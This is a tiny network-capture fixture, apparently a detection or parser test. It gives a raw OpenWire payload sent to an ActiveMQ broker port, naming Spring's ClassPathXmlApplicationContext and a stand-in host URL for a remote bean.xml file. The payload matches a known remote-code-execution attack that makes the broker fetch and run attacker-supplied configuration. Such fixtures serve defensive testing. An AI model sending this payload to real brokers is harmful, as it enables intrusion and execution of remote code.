# The message is of another type than an exception.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:61616

>>>
\x00\x00\x00p\x18\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x01\x00Borg.springframework.context.support.ClassPathXmlApplicationContext\x01
\x00\x1ehttp://198.51.100.7/bean.xml
